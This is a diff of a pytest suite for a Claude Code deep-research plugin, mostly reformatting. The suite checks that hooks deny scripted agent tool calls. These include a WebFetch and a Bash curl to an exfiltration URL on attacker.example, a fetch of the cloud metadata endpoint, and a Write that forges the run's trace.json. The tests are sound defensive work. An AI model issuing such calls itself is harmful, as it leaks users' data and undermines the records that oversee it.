@@ -42,10 +42,10 @@ from typing import Any
 import pytest
 
 from conftest import REPO, claude_binary, write_config
-from deep_research import runstate
 from deep_research.brief import Brief
-from deep_research.hosts import load as load_allowlist
-from deep_research.mcpgate import fingerprint_path
+from deep_research.fetch.hosts import load as load_allowlist
+from deep_research.plugin import runstate
+from deep_research.plugin.mcpgate import fingerprint_path
 from fakeapi import (
     Block,
     FakeAnthropic,
@@ -86,8 +86,12 @@ class Session:
     events: list[dict[str, Any]] = field(default_factory=list)  # the CLI's stream-json output
 
     def report(self) -> str:
-        lines = [f"exit {self.done.returncode}", "stdout: " + self.done.stdout[-3000:],
-                 "stderr: " + self.done.stderr[-3000:], "requests:"]
+        lines = [
+            f"exit {self.done.returncode}",
+            "stdout: " + self.done.stdout[-3000:],
+            "stderr: " + self.done.stderr[-3000:],
+            "requests:",
+        ]
         for request in self.api.requests:
             results = tool_results(request.body)
             lines.append(f"  {request.method} {request.path} tool_results={results}")
@@ -133,8 +137,9 @@ def _install_launcher_env(home: Path) -> None:
     python.write_text(f'#!/bin/sh\nexec "{sys.executable}" "$@"\n', encoding="utf-8")
     python.chmod(0o755)
     # bin/deep-research compares the stamp with "<version> <plugin root, symlinks resolved>".
-    (venv / ".deep-research-stamp").write_text(f"{_package_version()} {REPO.resolve()}",
-                                               encoding="utf-8")
+    (venv / ".deep-research-stamp").write_text(
+        f"{_package_version()} {REPO.resolve()}", encoding="utf-8"
+    )
 
 
 @pytest.fixture
@@ -146,8 +151,9 @@ def project(tmp_path: Path) -> Project:
     home.mkdir()
     _install_launcher_env(home)
     state = tmp_path / "state"
-    started = runstate.start_run(SCOPE, depth="quick", state=state, requested={},
-                                 static_hosts=[ALLOWED_HOST])
+    started = runstate.start_run(
+        SCOPE, depth="quick", state=state, requested={}, static_hosts=[ALLOWED_HOST]
+    )
     return Project(root=root, home=home, state=state, brief=Path(started["brief"]))
 
 
@@ -172,9 +178,14 @@ def calls(*steps: Block | list[Block], search: list[Block] | None = None) -> Scr
     return script
 
 
-def run_claude(project: Project, script: Script, *allowed: str,
-               on_event: Callable[[dict[str, Any]], None] | None = None,
-               prompt: str = "Use the tool as instructed.", state_env: bool = True) -> Session:
+def run_claude(
+    project: Project,
+    script: Script,
+    *allowed: str,
+    on_event: Callable[[dict[str, Any]], None] | None = None,
+    prompt: str = "Use the tool as instructed.",
+    state_env: bool = True,
+) -> Session:
     """One headless session; its stream-json events go to ``on_event`` as they arrive, so a
     script can wait on what the CLI has done so far (a subagent's reply on a denial, say)."""
     claude = claude_binary()
@@ -193,16 +204,33 @@ def run_claude(project: Project, script: Script, *allowed: str,
         }
         if state_env:
             env["DEEP_RESEARCH_STATE"] = str(project.state)
-        command = [claude, "-p", prompt, "--plugin-dir", str(REPO),
-                   "--output-format", "stream-json", "--verbose"]
+        command = [
+            claude,
+            "-p",
+            prompt,
+            "--plugin-dir",
+            str(REPO),
+            "--output-format",
+            "stream-json",
+            "--verbose",
+        ]
         if allowed:
             command += ["--allowedTools", *allowed]
         events: list[dict[str, Any]] = []
         lines: list[str] = []
         expired = threading.Event()
-        with (project.home.parent / "claude-stderr.txt").open("w+", encoding="utf-8") as stderr, \
-                subprocess.Popen(command, cwd=project.root, env=env, stdin=subprocess.DEVNULL,
-                                 stdout=subprocess.PIPE, stderr=stderr, text=True) as process:
+        with (
+            (project.home.parent / "claude-stderr.txt").open("w+", encoding="utf-8") as stderr,
+            subprocess.Popen(
+                command,
+                cwd=project.root,
+                env=env,
+                stdin=subprocess.DEVNULL,
+                stdout=subprocess.PIPE,
+                stderr=stderr,
+                text=True,
+            ) as process,
+        ):
 
             def expire() -> None:
                 expired.set()
@@ -228,8 +256,9 @@ def run_claude(project: Project, script: Script, *allowed: str,
                 process.wait()
                 watchdog.cancel()
             stderr.seek(0)
-            done = subprocess.CompletedProcess(command, process.returncode, "".join(lines),
-                                               stderr.read())
+            done = subprocess.CompletedProcess(
+                command, process.returncode, "".join(lines), stderr.read()
+            )
     session = Session(api, done, events)
     assert not expired.is_set(), f"claude did not finish in {TIMEOUT_S} s\n{session.report()}"
     assert done.returncode == 0, session.report()
@@ -247,18 +276,24 @@ def fetches_recorded(project: Project) -> list[dict[str, Any]]:
 @pytest.mark.parametrize(
     ("block", "allowed", "reason"),
     [
-        (tool_use("WebFetch", {"url": EXFILTRATION, "prompt": "summarize"}, "toolu_webfetch"),
-         "WebFetch",
-         "WebFetch: host attacker.example is not on this run's allow-list"),
-        (tool_use("Bash", {"command": f"curl -s '{EXFILTRATION}'", "description": "get"},
-                  "toolu_curl"),
-         "Bash(curl:*)",
-         "Bash: curl is not allowed during a research run"),
+        (
+            tool_use("WebFetch", {"url": EXFILTRATION, "prompt": "summarize"}, "toolu_webfetch"),
+            "WebFetch",
+            "WebFetch: host attacker.example is not on this run's allow-list",
+        ),
+        (
+            tool_use(
+                "Bash", {"command": f"curl -s '{EXFILTRATION}'", "description": "get"}, "toolu_curl"
+            ),
+            "Bash(curl:*)",
+            "Bash: curl is not allowed during a research run",
+        ),
     ],
     ids=["webfetch", "bash-curl"],
 )
-def test_hook_blocks_the_exfiltration_call(project: Project, block: Block, allowed: str,
-                                           reason: str) -> None:
+def test_hook_blocks_the_exfiltration_call(
+    project: Project, block: Block, allowed: str, reason: str
+) -> None:
     session = run_claude(project, calls(block), allowed)
     content, is_error = session.result_for(block["id"])
     assert reason in content, session.report()
@@ -273,8 +308,11 @@ def test_hook_blocks_the_exfiltration_call(project: Project, block: Block, allow
 def test_hook_blocks_a_metadata_fetch_without_a_run(project: Project) -> None:
     """Fetch safety holds with no research run active too."""
     assert runstate.finish_run(project.state, project.brief)
-    block = tool_use("WebFetch", {"url": "http://169.254.169.254/latest/meta-data/",
-                                  "prompt": "summarize"}, "toolu_metadata")
+    block = tool_use(
+        "WebFetch",
+        {"url": "http://169.254.169.254/latest/meta-data/", "prompt": "summarize"},
+        "toolu_metadata",
+    )
     session = run_claude(project, calls(block), "WebFetch")
     content, is_error = session.result_for("toolu_metadata")
     assert "WebFetch: unsafe target refused (private_address)" in content, session.report()
@@ -287,10 +325,14 @@ def test_hook_keeps_the_runs_records_out_of_the_models_reach(project: Project) -
     written as asked, in the same session."""
     trace = project.brief / "trace.json"
     before = trace.read_bytes() if trace.exists() else None
-    forge = tool_use("Write", {"file_path": str(trace), "content": '{"counters": {"rounds": 9}}'},
-                     "toolu_forge")
-    plan = tool_use("Write", {"file_path": str(project.brief / "plan.json"),
-                              "content": '{"sub_questions": []}'}, "toolu_plan")
+    forge = tool_use(
+        "Write", {"file_path": str(trace), "content": '{"counters": {"rounds": 9}}'}, "toolu_forge"
+    )
+    plan = tool_use(
+        "Write",
+        {"file_path": str(project.brief / "plan.json"), "content": '{"sub_questions": []}'},
+        "toolu_plan",
+    )
     session = run_claude(project, calls(forge, plan), "Write")
     content, is_error = session.result_for("toolu_forge")
     assert "trace.json is written only by the deep-research CLI" in content, session.report()
@@ -307,16 +349,24 @@ def test_a_run_started_after_a_cd_is_guarded_all_the_same(project: Project) -> N
     `deep-research start` after a `cd` puts the run outside the project's state/. The session's
     run record still leads the hooks to it: a fetch outside the allow-list is denied."""
     (project.root / "notes").mkdir()
-    start = tool_use("Bash", {"command": f"cd notes && deep-research start '{SCOPE}' "
-                              "--depth quick", "description": "start"}, "toolu_start")
+    start = tool_use(
+        "Bash",
+        {
+            "command": f"cd notes && deep-research start '{SCOPE}' --depth quick",
+            "description": "start",
+        },
+        "toolu_start",
+    )
     fetch = tool_use("WebFetch", {"url": EXFILTRATION, "prompt": "summarize"}, "toolu_exfil")
-    session = run_claude(project, calls(start, fetch), "Bash(deep-research *)", "WebFetch",
-                         state_env=False)
+    session = run_claude(
+        project, calls(start, fetch), "Bash(deep-research *)", "WebFetch", state_env=False
+    )
     started, start_error = session.result_for("toolu_start")
     assert not start_error and str(project.root / "notes" / "state") in started, session.report()
     content, is_error = session.result_for("toolu_exfil")
-    assert "WebFetch: host attacker.example is not on this run's allow-list" in content, \
+    assert "WebFetch: host attacker.example is not on this run's allow-list" in content, (
         session.report()
+    )
     assert is_error and session.denied_ids() == ["toolu_exfil"], session.report()
     session.assert_only_the_fake_api()
 
@@ -376,8 +426,12 @@ def test_search_results_widen_the_allow_list(project: Project) -> None:
     search = tool_use("WebSearch", {"query": QUERY}, "toolu_search")
     found = tool_use("WebFetch", {"url": FOUND, "prompt": "summarize"}, "toolu_found")
     unseen = tool_use("WebFetch", {"url": UNSEEN, "prompt": "summarize"}, "toolu_unseen")
-    session = run_claude(project, calls(search, found, unseen, search=web_search(QUERY, FOUND)),
-                         "WebSearch", "WebFetch")
+    session = run_claude(
+        project,
+        calls(search, found, unseen, search=web_search(QUERY, FOUND)),
+        "WebSearch",
+        "WebFetch",
+    )
 
     # The CLI's own search request: the server tool forced, the model's query as the prompt.
     searches = [r.body for r in session.api.messages if "web_search" in tool_names(r.body)]
@@ -404,7 +458,8 @@ def test_search_results_widen_the_allow_list(project: Project) -> None:
     # The unseen host is denied by the guard, in the same session.
     content, is_error = session.result_for("toolu_unseen")
     assert "WebFetch: host elsewhere.example.net is not on this run's allow-list" in content, (
-        session.report())
+        session.report()
+    )
     assert is_error and GUARD_UNAVAILABLE not in content, session.report()
     assert session.denied_ids() == ["toolu_unseen"], session.report()
     strays = [r for r in session.api.requests if not r.path.startswith("/v1/messages")]
@@ -432,8 +487,9 @@ def test_skill_body_reaches_the_model(project: Project) -> None:
     skill = (REPO / "skills" / "deep-research" / "SKILL.md").read_text(encoding="utf-8")
     body = skill.split("---", 2)[2]
     heading = next(line for line in body.splitlines() if line.startswith("# "))
-    block = tool_use("Skill", {"skill": "deep-research:deep-research", "args": SCOPE},
-                     "toolu_skill")
+    block = tool_use(
+        "Skill", {"skill": "deep-research:deep-research", "args": SCOPE}, "toolu_skill"
+    )
     session = run_claude(project, calls(block), "Skill")
     _, is_error = session.result_for("toolu_skill")
     assert not is_error, session.report()
@@ -455,8 +511,9 @@ def test_the_slash_command_runs_the_plugins_cli_without_asking(project: Project)
     Claude Code 2.1.197 applies a skill's allowed-tools only when the user invokes it: when the
     model calls the Skill tool itself, the same command "requires approval" in -p mode.
     """
-    version = tool_use("Bash", {"command": "deep-research --version", "description": "version"},
-                       "toolu_version")
+    version = tool_use(
+        "Bash", {"command": "deep-research --version", "description": "version"}, "toolu_version"
+    )
     session = run_claude(project, calls(version), prompt=f"/deep-research:deep-research {SCOPE}")
     content, is_error = session.result_for("toolu_version")
     assert f"deep-research {_package_version()}" in content, session.report()
@@ -480,19 +537,33 @@ def agent_definition(name: str) -> tuple[dict[str, str], str]:
 
 def dispatch(number: int, round_number: int, brief: Path) -> Block:
     """The orchestrator dispatching one fetcher (the prompt as the skill writes it)."""
-    prompt = (f"brief={brief} sub_question=sq{number} round={round_number} "
-              f'queries=["EU AI Act enforcement {number}"] scope={SCOPE}')
-    return tool_use("Agent", {"description": f"Fetch sub-question sq{number}",
-                              "subagent_type": FETCHER, "prompt": prompt},
-                    f"toolu_fetcher{number}")
+    prompt = (
+        f"brief={brief} sub_question=sq{number} round={round_number} "
+        f'queries=["EU AI Act enforcement {number}"] scope={SCOPE}'
+    )
+    return tool_use(
+        "Agent",
+        {
+            "description": f"Fetch sub-question sq{number}",
+            "subagent_type": FETCHER,
+            "prompt": prompt,
+        },
+        f"toolu_fetcher{number}",
+    )
 
 
 def fetcher_reply(block: Block) -> str:
     """What the fetcher dispatched by ``block`` answers: one JSON object, per its output schema."""
     found = re.search(r"sub_question=(\S+)", block["input"]["prompt"])
     assert found is not None
-    return json.dumps({"sub_question": found.group(1), "complete": False, "sources": [],
-                       "error": "no usable page (offline test)"})
+    return json.dumps(
+        {
+            "sub_question": found.group(1),
+            "complete": False,
+            "sources": [],
+            "error": "no usable page (offline test)",
+        }
+    )
 
 
 class Batch:
@@ -561,13 +632,30 @@ def test_a_fetcher_dispatched_under_the_slash_command_runs_the_cli(project: Proj
             return None
         ran = tool_results(request).get("toolu_sub_cli")
         if ran is None:
-            return [tool_use("Bash", {"command": "deep-research --version",
-                                      "description": "version"}, "toolu_sub_cli")]
-        return [text(json.dumps({"sub_question": "sq1", "complete": False, "sources": [],
-                                 "error": ran[0][:200], "cli_failed": ran[1]}))]
+            return [
+                tool_use(
+                    "Bash",
+                    {"command": "deep-research --version", "description": "version"},
+                    "toolu_sub_cli",
+                )
+            ]
+        return [
+            text(
+                json.dumps(
+                    {
+                        "sub_question": "sq1",
+                        "complete": False,
+                        "sources": [],
+                        "error": ran[0][:200],
+                        "cli_failed": ran[1],
+                    }
+                )
+            )
+        ]
 
-    session = run_claude(project, first_of(fetcher, calls(block)),
-                         prompt=f"/deep-research:deep-research {SCOPE}")
+    session = run_claude(
+        project, first_of(fetcher, calls(block)), prompt=f"/deep-research:deep-research {SCOPE}"
+    )
     content, is_error = session.result_for(block["id"])
     answer = json.loads(content.split("\n", 1)[0])
     assert not is_error and session.denied_ids() == [], session.report()
@@ -586,17 +674,28 @@ def test_the_mcp_path_runs_end_to_end(project: Project, mcp_recorded: Path) -> N
     fingerprint.parent.mkdir(parents=True)
     shutil.copy(mcp_recorded, fingerprint)
     page = "https://docs.python.org/3/reference/expressions.html"
-    gate = tool_use("Bash", {"command": "deep-research mcp-gate tiny", "description": "gate"},
-                    "toolu_gate")
-    prompt = (f"brief={project.brief} sub_question=sq1 round=1 queries=[\"chained\"] "
-              f"scope={SCOPE} mcp=tiny gate={{\"ok\": true}}")
-    mcp_dispatch = tool_use("Agent", {"description": "MCP fetch sq1",
-                                      "subagent_type": "deep-research:mcp-fetcher",
-                                      "prompt": prompt}, "toolu_mcp")
+    gate = tool_use(
+        "Bash", {"command": "deep-research mcp-gate tiny", "description": "gate"}, "toolu_gate"
+    )
+    prompt = (
+        f'brief={project.brief} sub_question=sq1 round=1 queries=["chained"] '
+        f'scope={SCOPE} mcp=tiny gate={{"ok": true}}'
+    )
+    mcp_dispatch = tool_use(
+        "Agent",
+        {
+            "description": "MCP fetch sq1",
+            "subagent_type": "deep-research:mcp-fetcher",
+            "prompt": prompt,
+        },
+        "toolu_mcp",
+    )
     front, body = agent_definition("mcp-fetcher")
     role = body.splitlines()[0]
-    call = (f"deep-research mcp-fetch tiny read_page --arguments '{json.dumps({'url': page})}' "
-            f"--brief {project.brief} --json")
+    call = (
+        f"deep-research mcp-fetch tiny read_page --arguments '{json.dumps({'url': page})}' "
+        f"--brief {project.brief} --json"
+    )
     offered: list[list[str]] = []
 
     def mcp_fetcher(request: dict[str, Any]) -> list[Block] | None:
@@ -608,8 +707,11 @@ def test_the_mcp_path_runs_end_to_end(project: Project, mcp_recorded: Path) -> N
             return [tool_use("Bash", {"command": call, "description": "mcp"}, "toolu_call")]
         return [text(ran[0].split("\n", 1)[0] if ran[1] else ran[0])]
 
-    session = run_claude(project, first_of(mcp_fetcher, calls(gate, mcp_dispatch)),
-                         prompt=f"/deep-research:deep-research {SCOPE} --mcp tiny")
+    session = run_claude(
+        project,
+        first_of(mcp_fetcher, calls(gate, mcp_dispatch)),
+        prompt=f"/deep-research:deep-research {SCOPE} --mcp tiny",
+    )
     checked, gate_error = session.result_for("toolu_gate")
     assert not gate_error and json.loads(checked)["ok"] is True, session.report()
     content, is_error = session.result_for("toolu_mcp")
@@ -633,9 +735,13 @@ def test_fanout_ceiling_holds_for_parallel_subagents(project: Project) -> None:
     the Agent results; their PostToolUse hooks record them done under the same tool_use ids the
     PreToolUse hooks recorded, so the fourth dispatch, sent after those results, passes.
     """
-    started = runstate.start_run(SCOPE, depth="quick", state=project.state,
-                                 requested={"max_fanout": 2, "max_rounds": 2},
-                                 static_hosts=[ALLOWED_HOST])
+    started = runstate.start_run(
+        SCOPE,
+        depth="quick",
+        state=project.state,
+        requested={"max_fanout": 2, "max_rounds": 2},
+        static_hosts=[ALLOWED_HOST],
+    )
     assert started["caps"]["max_fanout"] == 2 and Path(started["brief"]) == project.brief
     first = [dispatch(number, 1, project.brief) for number in (1, 2, 3)]
     fourth = dispatch(4, 2, project.brief)
@@ -647,8 +753,9 @@ def test_fanout_ceiling_holds_for_parallel_subagents(project: Project) -> None:
     # The CLI offers subagents as the tool Agent: subagent_type, description, prompt.
     main = next(r.body for r in session.api.messages if "Agent" in tool_names(r.body))
     agent_tool = next(tool for tool in main["tools"] if tool["name"] == "Agent")
-    assert {"subagent_type", "description", "prompt"} <= set(agent_tool["input_schema"]
-                                                             ["properties"])
+    assert {"subagent_type", "description", "prompt"} <= set(
+        agent_tool["input_schema"]["properties"]
+    )
 
     # Exactly one of the three is denied, by the guard's ceiling.
     results = {block["id"]: session.result_for(block["id"]) for block in first}
@@ -666,8 +773,12 @@ def test_fanout_ceiling_holds_for_parallel_subagents(project: Project) -> None:
     fields, body = agent_definition("fetcher")
     role = body.splitlines()[0]
     subagents = [r.body for r in session.api.messages if role in system_text(r.body)]
-    ran = sorted(block["id"] for request in subagents for block in [*first, fourth]
-                 if block["input"]["prompt"] in user_text(request))
+    ran = sorted(
+        block["id"]
+        for request in subagents
+        for block in [*first, fourth]
+        if block["input"]["prompt"] in user_text(request)
+    )
     assert ran == sorted(block["id"] for block in [*admitted, fourth]), session.report()
     for request in subagents:
         assert fields["model"] in request["model"], request["model"]
@@ -682,27 +793,46 @@ def test_fanout_ceiling_holds_for_parallel_subagents(project: Project) -> None:
     # The guard's ledger: two dispatches, both done, then the fourth dispatched and done — each
     # completion under its dispatch's id (PreToolUse and PostToolUse carry the same tool_use_id).
     rows = runstate.read_ledger(Brief(project.brief))
-    assert [row["event"] for row in rows] == ["dispatch", "dispatch", "done", "done",
-                                              "dispatch", "done"], rows
+    assert [row["event"] for row in rows] == [
+        "dispatch",
+        "dispatch",
+        "done",
+        "done",
+        "dispatch",
+        "done",
+    ], rows
     pairs = [block["id"] for block in admitted]
     assert sorted(row["id"] for row in rows[:2]) == sorted(pairs), rows
     assert sorted(row["id"] for row in rows[2:4]) == sorted(pairs), rows
     assert [row["id"] for row in rows[4:]] == [fourth["id"], fourth["id"]], rows
     dispatched = [row for row in rows if row["event"] == "dispatch"]
     assert [(row["agent"], row["fetcher"], row["round"]) for row in dispatched] == [
-        (FETCHER, True, 1), (FETCHER, True, 1), (FETCHER, True, 2)], rows
+        (FETCHER, True, 1),
+        (FETCHER, True, 1),
+        (FETCHER, True, 2),
+    ], rows
     session.assert_only_the_fake_api()
 
 
 def test_a_failed_dispatch_frees_its_slot(project: Project) -> None:
     """An Agent call the CLI fails after our PreToolUse hook let it through (an agent type that
     does not exist) is over, so it must not keep counting against the ceiling."""
-    runstate.start_run(SCOPE, depth="quick", state=project.state,
-                       requested={"max_fanout": 1, "max_rounds": 2}, static_hosts=[ALLOWED_HOST])
-    missing = tool_use("Agent", {"description": "Fetch sub-question sq1",
-                                 "subagent_type": "deep-research:no-such-agent",
-                                 "prompt": f"brief={project.brief} sub_question=sq1 round=1"},
-                       "toolu_missing")
+    runstate.start_run(
+        SCOPE,
+        depth="quick",
+        state=project.state,
+        requested={"max_fanout": 1, "max_rounds": 2},
+        static_hosts=[ALLOWED_HOST],
+    )
+    missing = tool_use(
+        "Agent",
+        {
+            "description": "Fetch sub-question sq1",
+            "subagent_type": "deep-research:no-such-agent",
+            "prompt": f"brief={project.brief} sub_question=sq1 round=1",
+        },
+        "toolu_missing",
+    )
     later = dispatch(2, 1, project.brief)
     script = first_of(fetchers([later], Batch()), calls(missing, later))
     session = run_claude(project, script, "Agent")
@@ -722,32 +852,58 @@ _DIRECT = urllib.request.build_opener(urllib.request.ProxyHandler({}))  # never 
 
 
 def _post(url: str, body: dict[str, Any]) -> tuple[str, bytes]:
-    request = urllib.request.Request(url, data=json.dumps(body).encode(), method="POST",
-                                     headers={"Content-Type": "application/json"})
+    request = urllib.request.Request(
+        url,
+        data=json.dumps(body).encode(),
+        method="POST",
+        headers={"Content-Type": "application/json"},
+    )
     with _DIRECT.open(request, timeout=10) as response:
         return str(response.headers["Content-Type"]), bytes(response.read())
 
 
 def test_fake_api_speaks_the_messages_protocol() -> None:
     block = tool_use("WebFetch", {"url": EXFILTRATION}, "toolu_1")
-    offer = {"model": "m", "tools": [{"name": "WebFetch"}],
-             "messages": [{"role": "user", "content": "go"}]}
+    offer = {
+        "model": "m",
+        "tools": [{"name": "WebFetch"}],
+        "messages": [{"role": "user", "content": "go"}],
+    }
     with FakeAnthropic(calls(block)) as api:
         kind, raw = _post(api.base_url + "/v1/messages?beta=true", {**offer, "stream": True})
         assert kind == "text/event-stream"
-        events = [json.loads(line[6:]) for line in raw.decode().splitlines()
-                  if line.startswith("data: ")]
+        events = [
+            json.loads(line[6:]) for line in raw.decode().splitlines() if line.startswith("data: ")
+        ]
         assert [e["type"] for e in events] == [
-            "message_start", "content_block_start", "content_block_delta", "content_block_stop",
-            "message_delta", "message_stop"]
+            "message_start",
+            "content_block_start",
+            "content_block_delta",
+            "content_block_stop",
+            "message_delta",
+            "message_stop",
+        ]
         assert events[1]["content_block"] == {**block, "input": {}}
         assert json.loads(events[2]["delta"]["partial_json"]) == block["input"]
         assert events[4]["delta"]["stop_reason"] == "tool_use"
-        answered = {**offer, "messages": [*offer["messages"],
-                                          {"role": "assistant", "content": [block]},
-                                          {"role": "user", "content": [
-                                              {"type": "tool_result", "tool_use_id": "toolu_1",
-                                               "content": [text("denied")], "is_error": True}]}]}
+        answered = {
+            **offer,
+            "messages": [
+                *offer["messages"],
+                {"role": "assistant", "content": [block]},
+                {
+                    "role": "user",
+                    "content": [
+                        {
+                            "type": "tool_result",
+                            "tool_use_id": "toolu_1",
+                            "content": [text("denied")],
+                            "is_error": True,
+                        }
+                    ],
+                },
+            ],
+        }
         _, raw = _post(api.base_url + "/v1/messages", answered)
         reply = json.loads(raw)
         assert (reply["content"], reply["stop_reason"]) == ([text("done")], "end_turn")
@@ -759,24 +915,38 @@ def test_fake_api_speaks_the_messages_protocol() -> None:
         missing.value.close()
     assert tool_results(answered) == {"toolu_1": ("denied", True)}
     assert [(r.method, r.path.split("?")[0]) for r in api.requests] == [
-        ("POST", "/v1/messages"), ("POST", "/v1/messages"),
-        ("POST", "/v1/messages/count_tokens"), ("GET", "/v1/models")]
+        ("POST", "/v1/messages"),
+        ("POST", "/v1/messages"),
+        ("POST", "/v1/messages/count_tokens"),
+        ("GET", "/v1/models"),
+    ]
     assert len(api.messages) == 2
 
 
 def test_fake_api_streams_a_server_tool_reply() -> None:
     """A server tool's use streams its input; its result arrives whole; the turn ends."""
-    offer = {"model": "m", "stream": True, "tools": [{"type": "web_search_20250305",
-                                                     "name": "web_search"}],
-             "messages": [{"role": "user", "content": "search"}]}
+    offer = {
+        "model": "m",
+        "stream": True,
+        "tools": [{"type": "web_search_20250305", "name": "web_search"}],
+        "messages": [{"role": "user", "content": "search"}],
+    }
     blocks = web_search(QUERY, FOUND)
     with FakeAnthropic(calls(search=blocks)) as api:
         _, raw = _post(api.base_url + "/v1/messages", offer)
-    events = [json.loads(line[6:]) for line in raw.decode().splitlines()
-              if line.startswith("data: ")]
+    events = [
+        json.loads(line[6:]) for line in raw.decode().splitlines() if line.startswith("data: ")
+    ]
     assert [e["type"] for e in events] == [
-        "message_start", "content_block_start", "content_block_delta", "content_block_stop",
-        "content_block_start", "content_block_stop", "message_delta", "message_stop"]
+        "message_start",
+        "content_block_start",
+        "content_block_delta",
+        "content_block_stop",
+        "content_block_start",
+        "content_block_stop",
+        "message_delta",
+        "message_stop",
+    ]
     assert events[1]["content_block"] == {**blocks[0], "input": {}}
     assert json.loads(events[2]["delta"]["partial_json"]) == {"query": QUERY}
     result = events[4]["content_block"]
@@ -787,14 +957,23 @@ def test_fake_api_streams_a_server_tool_reply() -> None:
 
 def test_fake_api_tells_subagents_from_the_main_loop() -> None:
     """A script for one agent's requests (by system prompt), another for the rest."""
-    agent = {"system": [text("billing"), text("Role: fetch.\nMore.")], "tools": [{"name": "Bash"}],
-             "messages": [{"role": "user", "content": [text("<reminder>"), text("sq=1")]},
-                          {"role": "assistant", "content": [tool_use("Bash", {}, "toolu_1")]},
-                          {"role": "user", "content": [{"type": "tool_result",
-                                                        "tool_use_id": "toolu_1",
-                                                        "content": "hidden"}]}]}
-    main = {"system": "You are the main loop.", "tools": [{"name": "Agent"}],
-            "messages": [{"role": "user", "content": "go"}]}
+    agent = {
+        "system": [text("billing"), text("Role: fetch.\nMore.")],
+        "tools": [{"name": "Bash"}],
+        "messages": [
+            {"role": "user", "content": [text("<reminder>"), text("sq=1")]},
+            {"role": "assistant", "content": [tool_use("Bash", {}, "toolu_1")]},
+            {
+                "role": "user",
+                "content": [{"type": "tool_result", "tool_use_id": "toolu_1", "content": "hidden"}],
+            },
+        ],
+    }
+    main = {
+        "system": "You are the main loop.",
+        "tools": [{"name": "Agent"}],
+        "messages": [{"role": "user", "content": "go"}],
+    }
 
     def fetcher(body: dict[str, Any]) -> list[Block] | None:
         return [text("agent: " + user_text(body))] if "Role: fetch." in system_text(body) else None
